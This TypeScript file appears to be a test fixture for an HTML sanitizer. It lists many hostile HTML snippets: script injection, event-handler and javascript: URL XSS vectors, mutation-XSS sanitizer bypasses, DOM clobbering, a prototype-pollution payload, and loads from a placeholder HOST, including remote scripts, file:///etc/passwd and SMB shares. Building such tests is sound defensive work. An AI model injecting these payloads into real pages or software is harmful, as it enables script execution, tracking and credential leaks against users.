/**
 * HTML that means harm when it is pasted. `HOST` stands for a server that counts who comes; a script that
 * runs calls `ran()`. Each is pasted between the words "before" and "after"; `lost` says that HTML itself
 * takes the words behind it for a part of the payload.
 */
export type HostileHtml = { readonly html: string; readonly lost?: true };

const scripts = [
  '<script>ran()</script>',
  '<script src="http://HOST/x.js"></script>',
  '<script type="module">ran()</script>',
  '<SCRIPT\t>ran()</SCRIPT\n>',
  '<scr<script>ipt>ran()</scr</script>ipt>',
  '<svg><script>ran()</script></svg>',
  '<svg><script href="data:text/javascript,ran()"/></svg>',
  '<math><script>ran()</script></math>',
  '<template><script>ran()</script></template>',
  '<template shadowrootmode="open"><img src="http://HOST/x.png" onerror="ran()"></template>',
  '<div><script>ran()</script/><b>bold</b></div>',
];

const handlers = [
  '<img src="http://HOST/x.png" onerror="ran()">',
  '<img src=x:x onerror=ran()//',
  '<img/src="x"/onerror=ran()>',
  '<img src=x onerror\n=\nran()>',
  '<image src="http://HOST/x.png" onerror="ran()">',
  '<svg onload="ran()"></svg>',
  '<svg/onload=ran()>',
  '<svg><animate onbegin="ran()" attributeName="x" dur="1s"></svg>',
  '<svg><set attributeName="onmouseover" to="ran()"/></svg>',
  '<body onload="ran()" onpageshow="ran()">',
  '<details open ontoggle="ran()"><summary>more</summary></details>',
  '<input autofocus onfocus="ran()">',
  '<select autofocus onfocus="ran()"><option>one</option></select>',
  '<video onerror="ran()"><source src="http://HOST/x.mp4"></video>',
  '<audio src="http://HOST/x.mp3" onerror="ran()" autoplay></audio>',
  '<marquee onstart="ran()">rolling</marquee>',
  '<div style="animation-name:x" onanimationstart="ran()">moving</div>',
  '<p onmouseover="ran()" onpointerenter="ran()">hover</p>',
];

const addresses = [
  '<a href="javascript:ran()">link</a>',
  '<a href="jav&#x09;ascript:ran()">link</a>',
  '<a href="&#1;javascript:ran()">link</a>',
  '<a href="vbscript:ran()">link</a>',
  '<a href="data:text/html,<script>ran()</script>">link</a>',
  '<a href="http://HOST/" ping="http://HOST/ping">link</a>',
  '<svg><a xlink:href="javascript:ran()"><text>link</text></a></svg>',
  '<math><mtext href="javascript:ran()">x</mtext></math>',
  '<form action="http://HOST/" onsubmit="ran()"><button formaction="javascript:ran()">send</button></form>',
  '<isindex action="javascript:ran()" type="image">',
  '<base href="http://HOST/"><img src="x.png">',
  '<meta http-equiv="refresh" content="0;url=http://HOST/">',
  '<meta http-equiv="refresh" content="0;url=javascript:ran()">',
  '<img src="file:///etc/passwd">',
  '<img src="\\\\HOST\\share\\x.png">',
  '<a href="smb://HOST/share">share</a>',
];

const loads = [
  '<img src="http://HOST/x.png">',
  '<img srcset="http://HOST/a.png 1x, http://HOST/b.png 2x">',
  '<picture><source srcset="http://HOST/x.webp"><img alt="picture"></picture>',
  '<video poster="http://HOST/x.png"></video>',
  '<link rel="stylesheet" href="http://HOST/x.css">',
  '<link rel="prefetch" href="http://HOST/x">',
  '<link rel="dns-prefetch" href="http://HOST/">',
  '<style>@import url(http://HOST/x.css);</style>',
  '<style>p { background: url(http://HOST/x.png) }</style>',
  '<style><img src="</style><img src=x onerror=ran()>">',
  '<p style="background:url(http://HOST/x.png)">styled</p>',
  '<p style="list-style-image:url(http://HOST/x.png);-moz-binding:url(http://HOST/x)">styled</p>',
  '<table background="http://HOST/x.png"><tr><td background="http://HOST/y.png">cell</td></tr></table>',
  '<input type="image" src="http://HOST/x.png">',
  '<iframe src="http://HOST/"></iframe>',
  '<iframe srcdoc="<script>parent.ran()</script>"></iframe>',
  '<iframe src="javascript:parent.ran()"></iframe>',
  '<object data="http://HOST/x.swf"></object>',
  '<object data="data:text/html,<script>parent.ran()</script>"></object>',
  '<embed src="http://HOST/x.swf">',
  '<applet code="http://HOST/x.class"></applet>',
  '<portal src="http://HOST/"></portal>',
  '<frameset><frame src="http://HOST/"></frameset>',
  '<svg><image href="http://HOST/x.png"/><use href="http://HOST/x.svg#a"/></svg>',
  '<svg><foreignObject><iframe src="http://HOST/"></iframe></foreignObject></svg>',
];

/** Markup that changes its meaning when it is written out and read again, and what fools a cleaner. */
const tricks = [
  '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=ran()>">',
  '<math><mtext><mglyph><style><img src=x onerror=ran()></style></mglyph></mtext></math>',
  '<svg></p><style><a id="</style><img src=1 onerror=ran()>">',
  '<svg><desc><table><thead><style></desc><img src=x onerror=ran()></style></thead></table></svg>',
  '<noembed><img title="</noembed><img src onerror=ran()>"></noembed>',
  '<select><noscript><style></select><img src=x onerror=ran()></style></noscript></select>',
  '<svg><annotation-xml encoding="text/html"><img src=x onerror=ran()></annotation-xml></svg>',
  '<!--><img src=x onerror=ran()>-->',
  '<![CDATA[<img src=x onerror=ran()>]]>',
  '<?xml version="1.0"?><img src=x onerror=ran()>',
  '<xmp><img src=x onerror=ran()></xmp>',
  '<a id="ran"></a><form id="attributes"><input name="attributes"><input name="nodeName"></form>',
  '<img name="body"><img name="getElementById"><img name="trustedTypes"><img name="briefingNotes">',
  '<o:p>office</o:p><v:shapetype><v:imagedata src="http://HOST/x.png"/></v:shapetype>',
  '<!--[if gte mso 9]><xml><img src=x onerror=ran()></xml><![endif]-->',
  '<span data-annotation-id="<img src=x onerror=ran()>">forged</span>',
  '<p data-pm-slice=\'9 9 ["__proto__",{"polluted":true}]\'>slice</p>',
  '<p is="x-element" slot="x" part="x" class="x" id="root">named</p>',
  `${'<div>'.repeat(600)}<img src=x onerror=ran()>${'</div>'.repeat(600)}`,
];

const swallowing = [
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=ran()>',
  '<noscript><p title="</noscript><img src=x onerror=ran()>"></noscript>',
  '<textarea><img src=x onerror=ran()>',
  '<!-- <img src=x onerror=ran()>',
  '<style><img src=x onerror=ran()>',
  '<title><img src=x onerror=ran()>',
  '<plaintext><img src=x onerror=ran()>',
];

export const hostileHtml: readonly HostileHtml[] = [
  ...[...scripts, ...handlers, ...addresses, ...loads, ...tricks].map((html) => ({ html })),
  ...swallowing.map((html) => ({ html, lost: true as const })),
];
